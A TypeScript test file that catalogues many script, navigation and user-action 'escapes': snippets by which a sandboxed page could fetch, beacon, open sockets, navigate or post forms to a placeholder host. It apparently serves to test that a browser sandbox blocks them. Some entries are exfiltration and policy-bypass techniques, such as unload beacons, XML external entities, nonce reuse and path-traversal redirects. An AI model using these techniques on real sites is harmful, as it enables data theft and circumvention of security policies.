import type { Escape } from "./escape.ts";

/** What a script may call to fetch, connect, look up a name, navigate or open something. */
export const scriptEscapes: Escape[] = Object.entries({
  // Fetch, and what is built on it.
  fetch: 'await fetch("URL")',
  "fetch-no-cors":
    'await fetch("URL", { mode: "no-cors", method: "POST", body: "x", keepalive: true })',
  "fetch-later": 'fetchLater("URL", { activateAfter: 0 })',
  "fetch-attribution":
    'await fetch("PREFIX/dot.svg", { attributionReporting: { eventSourceEligible: true, triggerEligible: false } }); await fetch("URL", { priority: "high" })',
  "fetch-redirect": 'await fetch("PREFIX/../../../../../api/account/oauth/x?return_to=URL")',
  xhr: 'const x = new XMLHttpRequest(); x.open("GET", "URL", false); x.send()',
  beacon: 'navigator.sendBeacon("URL", "x")',
  "event-source": 'new EventSource("URL")',
  websocket: 'new WebSocket("WS")',
  "websocket-stream": 'await new WebSocketStream("WS").opened',
  webtransport: 'await new WebTransport("HTTPS").ready',
  "image-constructor": 'new Image().src = "URL"',
  "image-decode": 'const i = new Image(); i.srcset = "URL 2x"; await i.decode()',
  "audio-constructor": 'await new Audio("URL").play()',
  "media-source":
    'const v = document.createElement("video"); v.src = "URL"; v.load(); document.body.append(v)',
  "font-face": 'await new FontFace("f", "url(URL)").load()',
  "constructed-sheet":
    'const s = new CSSStyleSheet(); s.replaceSync("html{background:url(URL)}"); document.adoptedStyleSheets = [s]',
  "inline-style": 'document.body.style.setProperty("background", "url(URL)")',
  "insert-rule":
    'document.head.append(document.createElement("style")); document.styleSheets[0].insertRule("html{background:url(URL)}")',
  "dynamic-import": 'await import("URL")',
  "dynamic-import-type": 'await import("URL", { with: { type: "json" } })',
  "background-fetch":
    'const r = await navigator.serviceWorker.ready; await r.backgroundFetch.fetch("x", "URL")',
  // Workers and worklets.
  worker: 'new Worker("URL")',
  "worker-data": `new Worker("data:text/javascript,fetch('URL',{mode:'no-cors'})")`,
  "worker-blob": `new Worker(URL.createObjectURL(new Blob(["fetch('" + "URL" + "',{mode:'no-cors'})"])))`,
  "shared-worker": `new SharedWorker("data:text/javascript,fetch('URL',{mode:'no-cors'})")`,
  "service-worker": 'await navigator.serviceWorker.register("URL")',
  "paint-worklet": 'await CSS.paintWorklet.addModule("URL")',
  "animation-worklet": 'await CSS.animationWorklet.addModule("URL")',
  "audio-worklet": 'await new OfflineAudioContext(1, 1, 8000).audioWorklet.addModule("URL")',
  "shared-storage-worklet": 'await sharedStorage.worklet.addModule("URL")',
  "shared-storage-create":
    'await sharedStorage.createWorklet("URL", { dataOrigin: "script-origin" })',
  // WebRTC.
  "webrtc-stun":
    'const p = new RTCPeerConnection({ iceServers: [{ urls: "stun:UDP" }] }); p.createDataChannel("x"); await p.setLocalDescription()',
  "webrtc-turn-tcp":
    'const p = new RTCPeerConnection({ iceServers: [{ urls: "turn:HOST?transport=tcp", username: "u", credential: "c" }], iceTransportPolicy: "relay" }); p.createDataChannel("x"); await p.setLocalDescription()',
  "webrtc-prefixed":
    'const p = new webkitRTCPeerConnection({ iceServers: [{ urls: "stun:UDP" }] }); p.createDataChannel("x"); await p.setLocalDescription()',
  "webrtc-restored":
    'delete globalThis.RTCPeerConnection; const C = Object.getPrototypeOf(globalThis).RTCPeerConnection ?? globalThis.RTCPeerConnection; const p = new C({ iceServers: [{ urls: "stun:UDP" }] }); p.createDataChannel("x"); await p.setLocalDescription()',
  "webrtc-frame":
    'const f = document.createElement("iframe"); document.body.append(f); const p = new f.contentWindow.RTCPeerConnection({ iceServers: [{ urls: "stun:UDP" }] }); p.createDataChannel("x"); await p.setLocalDescription()',
  "webrtc-frames-index":
    'document.body.insertAdjacentHTML("beforeend", "<iframe></iframe>"); const p = new frames[0].RTCPeerConnection({ iceServers: [{ urls: "stun:UDP" }] }); p.createDataChannel("x"); await p.setLocalDescription()',
  "webrtc-object":
    'const f = document.createElement("object"); f.data = "about:blank"; document.body.append(f); await new Promise((r) => setTimeout(r, 100)); const p = new f.contentWindow.RTCPeerConnection({ iceServers: [{ urls: "stun:UDP" }] }); p.createDataChannel("x"); await p.setLocalDescription()',
  "webrtc-srcdoc": `const f = document.createElement("iframe"); f.srcdoc = "<script>const p = new RTCPeerConnection({ iceServers: [{ urls: 'stun:UDP' }] }); p.createDataChannel('x'); p.setLocalDescription()</" + "script>"; document.body.append(f)`,
  "webrtc-popup":
    'const w = window.open("about:blank"); const p = new w.RTCPeerConnection({ iceServers: [{ urls: "stun:UDP" }] }); p.createDataChannel("x"); await p.setLocalDescription()',
  "webrtc-certificate":
    'const C = (await RTCPeerConnection.generateCertificate("ECDSA"), RTCPeerConnection); const p = new C({ iceServers: [{ urls: "stun:UDP" }] }); p.createDataChannel("x"); await p.setLocalDescription()',
  "rtc-transports":
    'const g = new RTCIceTransport(); g.gather({ iceServers: [{ urls: "stun:UDP" }] })',
  // Links made by script.
  "set-preconnect":
    'const l = document.createElement("link"); l.rel = "preconnect"; l.href = "URL"; document.head.append(l)',
  "set-dns-prefetch":
    'const l = document.createElement("link"); l.rel = "dns-prefetch"; l.href = "URL"; document.head.append(l)',
  "set-prefetch":
    'const l = document.createElement("link"); l.rel = "prefetch"; l.href = "URL"; document.head.append(l)',
  "set-speculation":
    'const s = document.createElement("script"); s.type = "speculationrules"; s.textContent = JSON.stringify({ prefetch: [{ urls: ["URL"], eagerness: "immediate" }] }); document.head.append(s)',
  "set-speculation-prerender":
    'const s = document.createElement("script"); s.type = "speculationrules"; s.textContent = JSON.stringify({ prerender: [{ urls: ["URL"], eagerness: "immediate" }] }); document.head.append(s)',
  "set-speculation-nonce":
    'const s = document.createElement("script"); s.type = "speculationrules"; s.nonce = document.scripts[0].nonce; s.textContent = JSON.stringify({ prefetch: [{ urls: ["URL"], eagerness: "immediate" }] }); document.head.append(s)',
  "set-handler": `document.body.setAttribute("onclick", "location = 'URL'"); document.body.click()`,
  "set-link-in-xml":
    'const d = new DOMParser().parseFromString(`<html xmlns="http://www.w3.org/1999/xhtml"><link rel="preconnect" href="URL"/></html>`, "text/xml"); document.head.append(document.adoptNode(d.documentElement.firstChild))',
  xslt: 'const d = new DOMParser().parseFromString(`<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:import href="URL"/><xsl:template match="/"><xsl:copy-of select="document(\'URL\')"/></xsl:template></xsl:stylesheet>`, "text/xml"); const p = new XSLTProcessor(); p.importStylesheet(d); p.transformToFragment(d, document)',
  "external-entity":
    'new DOMParser().parseFromString(`<!DOCTYPE a [<!ENTITY b SYSTEM "URL">]><a>&b;</a>`, "text/xml")',
  "document-write":
    'document.write(`<img src="URL"><meta http-equiv="refresh" content="0;url=URL">`)',
  // Reports.
  "csp-violation-report": 'new Image().src = "URL"; new ReportingObserver(() => {}).observe()',
  crash:
    'window.fence?.reportEvent({ eventType: "click", destination: ["buyer"] }); window.fence?.setReportEventDataForAutomaticBeacons?.({ eventType: "reserved.top_navigation_start", destination: ["buyer"] })',
  "private-aggregation": "privateAggregation.contributeToHistogram({ bucket: 1n, value: 1 })",
  "interest-group":
    'await navigator.joinAdInterestGroup({ owner: "HTTPS", name: "x", biddingLogicURL: "HTTPS", updateURL: "HTTPS", ads: [] }, 1000)',
  "ad-auction":
    'await navigator.runAdAuction({ seller: "HTTPS", decisionLogicURL: "HTTPS", interestGroupBuyers: [] })',
  topics: "await document.browsingTopics()",
  "has-private-token":
    'await document.hasPrivateToken("HTTPS"); await document.hasRedemptionRecord("HTTPS")',
  // Credentials, payments, devices, installed programs.
  fedcm:
    'await navigator.credentials.get({ identity: { providers: [{ configURL: "HTTPS", clientId: "1", nonce: "1" }] }, mediation: "required" })',
  "fedcm-disconnect":
    'await IdentityCredential.disconnect({ configURL: "HTTPS", clientId: "1", accountHint: "*" })',
  "storage-access": 'await document.requestStorageAccessFor("HTTPS")',
  webauthn:
    'await navigator.credentials.get({ publicKey: { challenge: new Uint8Array(16), rpId: "x.canary.test" } })',
  "webauthn-related":
    'await navigator.credentials.create({ publicKey: { challenge: new Uint8Array(16), rp: { id: "HOST".split(":")[0], name: "x" }, user: { id: new Uint8Array(16), name: "x", displayName: "x" }, pubKeyCredParams: [{ type: "public-key", alg: -7 }] } })',
  payment:
    'await new PaymentRequest([{ supportedMethods: "HTTPS" }], { total: { label: "x", amount: { currency: "EUR", value: "1" } } }).canMakePayment()',
  "payment-show":
    'await new PaymentRequest([{ supportedMethods: "HTTPS" }], { total: { label: "x", amount: { currency: "EUR", value: "1" } } }).show()',
  "related-apps": "await navigator.getInstalledRelatedApps()",
  "protocol-handler": 'navigator.registerProtocolHandler("web+x", "URL?%s")',
  presentation: 'await new PresentationRequest(["HTTPS"]).start()',
  "remote-playback":
    'const v = document.createElement("video"); v.src = "URL"; document.body.append(v); await v.remote.prompt()',
  share: 'await navigator.share({ url: "URL" })',
  notification: 'new Notification("x", { icon: "URL", image: "URL", badge: "URL" })',
  "media-session":
    'navigator.mediaSession.metadata = new MediaMetadata({ title: "x", artwork: [{ src: "URL" }] })',
  push: "await (await navigator.serviceWorker.ready).pushManager.subscribe({ userVisibleOnly: true })",
  "web-install": 'await navigator.install("URL")',
  "direct-socket":
    'new TCPSocket("HOST".split(":")[0], Number("HOST".split(":")[1])); new UDPSocket({ remoteAddress: "127.0.0.1", remotePort: 9 })',
  "clipboard-html":
    'await navigator.clipboard.write([new ClipboardItem({ "text/html": new Blob([`<img src="URL">`], { type: "text/html" }) })])',
  "paste-html":
    'document.body.contentEditable = "true"; document.body.focus(); document.execCommand("insertHTML", false, `<img src="URL">`)',
  "exec-image":
    'document.designMode = "on"; document.execCommand("selectAll"); document.execCommand("insertImage", false, "URL")',
  "picture-in-picture": "await documentPictureInPicture.requestWindow()",
  print:
    'document.head.insertAdjacentHTML("beforeend", "<style media=print>body{background:url(URL)}</style>"); print()',
  "source-map":
    'document.head.append(Object.assign(document.createElement("script"), { textContent: "1 //# sourceMappingURL=URL" }))',
  "eval-map": 'eval("1 //# sourceMappingURL=URL\\n//# sourceURL=URL")',
  "canvas-filter":
    'const c = document.createElement("canvas").getContext("2d"); c.filter = "url(URL#f)"; c.fillRect(0, 0, 1, 1)',
  "view-transition":
    'document.startViewTransition(() => { document.body.innerHTML = `<img src="URL">` })',
  "storage-bucket": 'await caches.open("x").then((c) => c.add("URL"))',
  "compute-pressure":
    'await navigator.connection?.downlink; await navigator.locks.request("x", () => fetch("URL"))',
}).map(([name, script]) => ({ name, script }));

/** Navigation of this window and of others, windows that are opened, forms that are sent. */
export const navigationEscapes: Escape[] = Object.entries({
  location: 'location = "URL"',
  "location-replace": 'location.replace("URL")',
  "location-assign": 'location.assign("URL")',
  "location-parts": 'location.host = "HOST"; location.protocol = "https:"',
  "location-data": 'location = "data:text/html,<img src=URL>"',
  "location-blob":
    'location = globalThis.URL.createObjectURL(new Blob([`<img src="URL">`], { type: "text/html" }))',
  "location-javascript": 'location = `javascript:fetch("URL", { mode: "no-cors" })`',
  "location-view-source": 'location = "view-source:URL"',
  "location-custom": 'location = "intent://HOST#Intent;scheme=http;S.browser_fallback_url=URL;end"',
  navigate: 'navigation.navigate("URL")',
  history: 'history.pushState(null, "", "URL")',
  "document-url": 'document.location.href = "URL"; document.URL = "URL"',
  "document-domain": 'document.domain = "canary.test"; top.location = "URL"',
  "top-location": 'top.location = "URL"',
  "top-href": 'top.location.href = "URL"',
  "top-replace": 'top.location.replace("URL")',
  "parent-location": 'parent.location = "URL"',
  "opener-location": 'opener.location = "URL"',
  "open-blank": 'window.open("URL")',
  "open-noopener": 'window.open("URL", "_blank", "noopener,noreferrer")',
  "open-about": 'const w = window.open("about:blank"); w.location = "URL"',
  "open-about-write": 'const w = window.open(""); w.document.write(`<img src="URL">`)',
  "open-blob":
    'window.open(globalThis.URL.createObjectURL(new Blob([`<script>location="URL"</` + `script>`], { type: "text/html" })))',
  "open-data": 'window.open("data:text/html,<img src=URL>")',
  "open-javascript": `window.open("javascript:location='URL'")`,
  "open-self": 'window.open("URL", "_self")',
  "open-top": 'window.open("URL", "_top")',
  "open-parent": 'window.open("URL", "_parent")',
  "open-unfenced": 'window.open("URL", "_unfencedTop")',
  "open-popup": 'window.open("URL", "w", "popup,width=200,height=200")',
  "post-message":
    'top.postMessage({ kind: "navigate", url: "URL", href: "URL", path: "//HOST/" }, "*")',
  "anchor-click":
    'const a = document.createElement("a"); a.href = "URL"; document.body.append(a); a.click()',
  "anchor-top":
    'const a = document.createElement("a"); a.href = "URL"; a.target = "_top"; document.body.append(a); a.click()',
  "anchor-blank":
    'const a = document.createElement("a"); a.href = "URL"; a.target = "_blank"; document.body.append(a); a.click()',
  "anchor-ping":
    'const a = document.createElement("a"); a.href = "#x"; a.ping = "URL"; document.body.append(a); a.click()',
  "anchor-download":
    'const a = document.createElement("a"); a.href = "URL"; a.download = "x"; document.body.append(a); a.click()',
  "anchor-event":
    'const a = document.createElement("a"); a.href = "URL"; document.body.append(a); a.dispatchEvent(new MouseEvent("click", { ctrlKey: true, button: 1 }))',
  "area-click":
    'document.body.insertAdjacentHTML("beforeend", `<map><area href="URL" ping="URL"></map>`); document.querySelector("area").click()',
  "svg-anchor":
    'document.body.insertAdjacentHTML("beforeend", `<svg><a href="URL" target="_top"><text>x</text></a></svg>`); document.querySelector("svg a").dispatchEvent(new MouseEvent("click", { bubbles: true }))',
  "math-click":
    'document.body.insertAdjacentHTML("beforeend", `<math href="URL"><mi>x</mi></math>`); document.querySelector("math").dispatchEvent(new MouseEvent("click", { bubbles: true }))',
  "form-get":
    'const f = document.createElement("form"); f.action = "URL"; document.body.append(f); f.submit()',
  "form-post-top":
    'const f = document.createElement("form"); f.action = "URL"; f.method = "post"; f.target = "_top"; document.body.append(f); f.submit()',
  "form-blank":
    'const f = document.createElement("form"); f.action = "URL"; f.target = "_blank"; document.body.append(f); f.requestSubmit()',
  "form-button":
    'document.body.insertAdjacentHTML("beforeend", `<form><button formaction="URL" formtarget="_top">x</button></form>`); document.querySelector("button").click()',
  "form-dialog":
    'document.body.insertAdjacentHTML("beforeend", `<dialog open><form method="dialog" action="URL"><button>x</button></form></dialog>`); document.querySelector("form").submit()',
  unload:
    'addEventListener("pagehide", () => navigator.sendBeacon("URL", "x")); location = "about:blank"',
  "before-unload":
    'onbeforeunload = () => { fetch("URL", { keepalive: true, mode: "no-cors" }) }; location = "PREFIX/"',
  "nested-location": 'location = "PREFIX/hop/"',
  "own-redirect": 'location = "PREFIX//HOST/"',
  "scheme-relative": 'location = "//HOST/x"',
  "back-slash": 'location = "/\\\\\\\\HOST/x"',
  "user-info": 'location = "http://user:pass@HOST/x"',
}).map(([name, script]) => ({ name, script, alone: true }));

/** What a user does in a page that has prepared for it. */
export const userEscapes: Escape[] = [
  { name: "user-link", html: '<a id="it" href="URL">a link</a>', act: "click" },
  {
    name: "user-link-blank",
    html: '<a id="it" href="URL" target="_blank">a link</a>',
    act: "click",
  },
  {
    name: "user-link-top",
    html: '<a id="it" href="URL" target="_top" ping="URL2">a link</a>',
    act: "click",
  },
  {
    name: "user-link-opener",
    html: '<a id="it" href="URL" target="x" rel="opener">a link</a>',
    act: "click",
  },
  { name: "user-link-download", html: '<a id="it" href="URL" download>a link</a>', act: "click" },
  {
    name: "user-form",
    html: '<form action="URL" target="_blank"><button id="it">Send</button></form>',
    act: "click",
  },
  {
    name: "user-form-top",
    html: '<form action="URL" target="_top"><button id="it">Send</button></form>',
    act: "click",
  },
  { name: "user-enter", html: '<form action="URL"><input id="it" name="a"></form>', act: "submit" },
  {
    name: "user-open",
    html: '<button id="it">x</button>',
    script: 'document.querySelector("#it").onclick = () => window.open("URL")',
    act: "click",
  },
  {
    name: "user-top",
    html: '<button id="it">x</button>',
    script: 'document.querySelector("#it").onclick = () => { top.location = "URL" }',
    act: "click",
  },
  {
    name: "user-about",
    html: '<button id="it">x</button>',
    script:
      'document.querySelector("#it").onclick = () => { const w = window.open("about:blank"); w.document.write("<img src=URL>") }',
    act: "click",
  },
  {
    name: "user-payment",
    html: '<button id="it">x</button>',
    script:
      'document.querySelector("#it").onclick = () => new PaymentRequest([{ supportedMethods: "HTTPS" }], { total: { label: "x", amount: { currency: "EUR", value: "1" } } }).show()',
    act: "click",
  },
  {
    name: "user-fullscreen",
    html: '<button id="it">x</button>',
    script:
      'document.querySelector("#it").onclick = () => { document.documentElement.requestFullscreen(); location = "URL" }',
    act: "click",
  },
  {
    name: "user-hover",
    html: '<a id="it" href="URL">a link</a><script type="speculationrules">{"prefetch":[{"where":{"href_matches":"/*"},"eagerness":"moderate"}]}</script>',
    act: "drag",
  },
  {
    name: "user-popover",
    html: '<button id="it" interestfor="URL" popovertarget="p" command="show-popover" commandfor="p">x</button><div id="p" popover>x</div>',
    act: "click",
  },
];
